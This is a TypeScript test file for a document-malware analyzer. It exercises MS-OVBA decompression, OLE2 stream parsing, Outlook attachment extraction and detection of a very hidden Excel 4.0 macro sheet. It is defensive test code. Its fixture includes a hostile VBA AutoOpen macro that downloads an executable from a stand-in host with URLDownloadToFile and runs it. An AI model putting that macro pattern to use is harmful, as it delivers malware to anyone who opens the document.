import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { buildCfb } from '../../testing/cfb-builder.js';
import { analyzeBytes, defaultOptions } from '../index.js';
import { openCfb } from './cfb.js';
import { decompressOvba } from './vba.js';

const hex = (text: string) => Buffer.from(text.replace(/\s+/g, ''), 'hex');

/** MS-OVBA compression using literal tokens only: valid, if no smaller, for under 3.6 KB. */
function compressLiterals(data: Buffer): Buffer {
  assert.ok(data.length <= 3640);
  const body: number[] = [];
  for (let i = 0; i < data.length; i += 8) {
    body.push(0, ...data.subarray(i, i + 8));
  }
  const header = 0xb000 | (body.length + 2 - 3);
  return Buffer.from([0x01, header & 0xff, header >> 8, ...body]);
}

function record(id: number, data: Buffer): Buffer {
  const head = Buffer.alloc(6);
  head.writeUInt16LE(id, 0);
  head.writeUInt32LE(data.length, 2);
  return Buffer.concat([head, data]);
}

const u16 = (n: number) => Buffer.from([n & 0xff, n >> 8]);
const u32 = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n);
  return b;
};

/** A Word document whose ThisDocument module runs a download on open. */
function macroDocument(source: string): Buffer {
  const performanceCache = Buffer.alloc(37, 0xcc);
  const dir = Buffer.concat([
    record(0x0001, u32(1)),
    record(0x0003, u16(1252)),
    record(0x000f, u16(1)),
    record(0x0019, Buffer.from('ThisDocument')),
    record(0x001a, Buffer.from('ThisDocument')),
    record(0x0032, Buffer.from('ThisDocument', 'utf16le')),
    record(0x0031, u32(performanceCache.length)),
    record(0x002b, Buffer.alloc(0)),
    record(0x0010, Buffer.alloc(0)),
  ]);
  return buildCfb([
    { path: 'WordDocument', content: Buffer.alloc(5000, 0x20) },
    { path: 'Macros/VBA/dir', content: compressLiterals(dir) },
    { path: 'Macros/VBA/_VBA_PROJECT', content: Buffer.from([0xcc, 0x61, 0xff, 0xff, 0, 0, 0]) },
    {
      path: 'Macros/VBA/ThisDocument',
      content: Buffer.concat([performanceCache, compressLiterals(Buffer.from(source, 'latin1'))]),
    },
  ]);
}

describe('MS-OVBA decompression', () => {
  it('expands the specification examples (section 3.2)', () => {
    const normal = '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa';
    const compressed = hex(`01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08
      61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C`);
    assert.equal(decompressOvba(compressed).toString('latin1'), normal);
    const none = hex(`01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72
      73 74 75 76 2E`);
    assert.equal(decompressOvba(none).toString('latin1'), 'abcdefghijklmnopqrstuv.');
    assert.equal(decompressOvba(hex('01 03 B0 02 61 45 00')).toString('latin1'), 'a'.repeat(73));
  });

  it('refuses to expand past its cap', () => {
    assert.throws(() => decompressOvba(hex('01 03 B0 02 61 45 00'), 16), /larger than 16/);
  });
});

describe('OLE2 documents', () => {
  const source =
    'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n' +
    '  Set s = CreateObject("WScript.Shell")\r\n' +
    '  URLDownloadToFile 0, "http://payload.example.net/a.exe", "a.exe", 0, 0\r\n' +
    '  s.Run "a.exe"\r\nEnd Sub\r\n';

  it('reads the streams of a built compound file, big and small', () => {
    const cfb = openCfb(macroDocument(source));
    const paths = cfb.streams.map((s) => s.path).sort();
    assert.deepEqual(paths, [
      'Macros/VBA/ThisDocument',
      'Macros/VBA/_VBA_PROJECT',
      'Macros/VBA/dir',
      'WordDocument',
    ]);
    assert.equal(cfb.streams.find((s) => s.path === 'WordDocument')?.read().length, 5000);
  });

  it('extracts the macro source and flags auto-run and suspicious calls', async () => {
    const item = await analyzeBytes(macroDocument(source), 'invoice.doc', defaultOptions());
    const [doc] = item.files;
    assert.equal(doc?.detectedType, 'ole2');
    const findings = new Map(doc?.findings.map((f) => [f.id, f]));
    assert.match(findings.get('vba-auto-run')?.summary ?? '', /AutoOpen/);
    const calls = findings.get('vba-suspicious-calls');
    assert.equal(calls?.severity, 'critical');
    assert.match(calls?.summary ?? '', /CreateObject/);
    assert.match(calls?.summary ?? '', /URLDownloadToFile/);
    const module = doc?.children.find((c) => c.name === 'ThisDocument.vba');
    assert.equal(module?.size, Buffer.byteLength(source));
    assert.ok(item.indicators.urls.includes('http://payload.example.net/a.exe'));
  });

  it('unpacks the attachments of an Outlook message', async () => {
    const attachment = '__attach_version1.0_#00000000';
    const headers =
      'Received: from mail.sender.test (mail.sender.test [198.51.100.77]) by mx.example.com; ' +
      'Mon, 1 Jan 2024 10:00:00 +0000\r\nAuthentication-Results: mx.example.com; spf=fail\r\n' +
      'From: Billing <billing@sender.test>\r\nSubject: Invoice\r\n';
    const msg = buildCfb([
      { path: '__substg1.0_0037001F', content: Buffer.from('Invoice', 'utf16le') },
      { path: '__substg1.0_007D001F', content: Buffer.from(headers, 'utf16le') },
      { path: `${attachment}/__substg1.0_3707001F`, content: Buffer.from('invoice.js', 'utf16le') },
      { path: `${attachment}/__substg1.0_37010102`, content: Buffer.from('eval("x")') },
    ]);
    const [file] = (await analyzeBytes(msg, 'mail.msg', defaultOptions())).files;
    assert.equal(file?.details?.['subject'], 'Invoice');
    assert.equal(file?.details?.['originatingIp'], '198.51.100.77');
    assert.ok(file?.findings.some((f) => f.id === 'auth-spf-fail'));
    assert.equal(file?.children[0]?.name, 'invoice.js');
    assert.equal(file?.children[0]?.detectedType, 'script');
  });

  it('finds a very hidden Excel 4.0 macro sheet run by Auto_Open', async () => {
    const rec = (type: number, data: Buffer) => Buffer.concat([u16(type), u16(data.length), data]);
    const sheet = (name: string, state: number, kind: number) =>
      rec(
        0x85,
        Buffer.concat([u32(0), Buffer.from([state, kind, name.length, 0]), Buffer.from(name)]),
      );
    // NAME record: fBuiltin set, one-character name 0x01 (Auto_Open).
    const autoOpen = rec(
      0x18,
      Buffer.concat([u16(0x20), Buffer.from([0, 1]), Buffer.alloc(10), Buffer.from([0, 1])]),
    );
    const workbook = Buffer.concat([
      rec(0x809, Buffer.alloc(16)),
      sheet('Sheet1', 0, 0),
      sheet('Macro1', 2, 1),
      autoOpen,
      rec(0x0a, Buffer.alloc(0)),
    ]);
    const xls = buildCfb([
      { path: 'Workbook', content: Buffer.concat([workbook, Buffer.alloc(4096)]) },
    ]);
    const [file] = (await analyzeBytes(xls, 'prices.xls', defaultOptions())).files;
    const finding = file?.findings.find((f) => f.id === 'xls-xlm-macrosheet');
    assert.equal(finding?.severity, 'critical');
    assert.match(finding?.summary ?? '', /"Macro1" \(very hidden\)/);
    assert.doesNotMatch(finding?.summary ?? '', /Sheet1/);
  });

  it('reports a damaged compound file as a finding, not a crash', async () => {
    const damaged = macroDocument(source).subarray(0, 700);
    const item = await analyzeBytes(damaged, 'broken.doc', defaultOptions());
    assert.ok(item.files[0]?.findings.some((f) => f.id === 'parse-error'));
  });
});
